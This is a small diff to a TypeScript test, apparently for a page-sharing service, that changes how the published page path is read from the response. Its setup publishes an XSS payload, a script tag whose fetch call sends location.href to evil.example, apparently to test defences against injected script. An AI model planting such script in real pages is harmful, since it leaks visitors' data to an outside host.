@@ -11,7 +11,7 @@ let page: string;
 beforeAll(async () => {
   people = await startPeople();
   const published = await people.publish('<script>fetch("https://evil.example/" + location.href)</script>');
-  page = `${people.origin}/share/${((await published.json()) as { path: string }).path}`;
+  page = `${people.origin}/share/${((await published.json()) as { site: { path: string } }).site.path}`;
 }, 90_000);
 afterAll(() => people.close(), 60_000);
 
